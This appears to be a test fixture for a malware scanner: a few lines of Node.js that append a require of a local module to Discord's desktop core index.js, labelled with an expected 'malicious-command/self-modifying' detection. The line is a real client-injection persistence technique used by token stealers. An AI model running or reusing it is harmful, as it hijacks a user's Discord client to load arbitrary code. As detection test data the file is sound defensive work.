const fs = require('fs');
const path = require('path');

fs.appendFileSync(path.join(process.env.LOCALAPPDATA, 'Discord', 'app-1.0.9', 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js'), "require('./x');"); // expect: malicious-command/self-modifying
